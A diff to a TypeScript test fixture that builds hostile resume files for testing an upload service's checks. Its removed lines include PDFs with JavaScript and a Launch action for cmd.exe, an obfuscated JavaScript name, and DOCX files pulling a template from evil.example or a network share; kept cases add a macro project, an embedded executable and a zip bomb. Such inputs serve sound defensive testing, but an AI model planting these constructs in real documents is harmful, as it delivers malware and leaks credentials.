@@ -33,11 +33,6 @@ const named = (title: string, name: string, data: Buffer = makePdf()): HostileRe
   data,
 })
 
-const settingsLinks = (target: string): ZipPart => ({
-  name: 'word/_rels/settings.xml.rels',
-  data: `<Relationships><Relationship Type="attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
-})
-
 /** The second entry's bytes are a part of the first one's. */
 function overlappingEntries(): Buffer {
   const inner: ZipPart = { name: 'word/b.xml', data: 'x' }
@@ -55,7 +50,7 @@ const tar = (content: Buffer): Buffer => {
   return block
 }
 
-/** @param limit the service's limit for a resume, in bytes. */
+/** Beside those of hostileDocuments.ts. @param limit the service's limit for a resume, in bytes. */
 export const hostileResumes = (limit: number): HostileResume[] => [
   { ...pdf('empty', Buffer.alloc(0)), says: 'is empty' },
   pdf('one byte', text('%')),
@@ -87,9 +82,6 @@ export const hostileResumes = (limit: number): HostileResume[] => [
   pdf('a cross-reference past the end', makePdf({ xrefAt: 999_999 })),
   pdf('a cross-reference that is none', makePdf({ xrefAt: 3 })),
   pdf('no catalogue', text(makePdf().toString('latin1').replace('/Root', '/Toot'))),
-  pdf('JavaScript', makePdf({ objects: '3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n' })),
-  pdf('JavaScript under a coded name', makePdf({ objects: '3 0 obj\n<</S/Java#53cript/JS(1)>>\nendobj\n' })),
-  pdf('starts a program', makePdf({ objects: '3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n' })),
 
   doc('rich text', text(String.raw`{\rtf1\ansi My resume}`)),
   doc('cut off in its header', makeDoc().subarray(0, 300)),
@@ -124,8 +116,6 @@ export const hostileResumes = (limit: number): HostileResume[] => [
   },
   docxWith('macros by their file', { name: 'word/vbaProject.bin', data: 'x' }),
   docxWith('a program inside', { name: 'word/embeddings/run.exe', data: 'MZ' }),
-  docxWith('a template from the internet', settingsLinks('https://evil.example/t.dotm')),
-  docxWith('a template from a network share', settingsLinks(String.raw`\\evil.example\t.dotm`)),
   docxWith('a zip bomb', { name: 'word/media/a.bin', data: Buffer.alloc(30 * 1024 * 1024) }),
   docxWith('a declared size of 4 GB', { name: 'word/media/a.bin', data: 'x', declaredSize: 0xfffffffe }),
   docxWith('many entries', ...Array.from({ length: 2_000 }, (_, i) => ({ name: `word/${i}.xml`, data: '' }))),
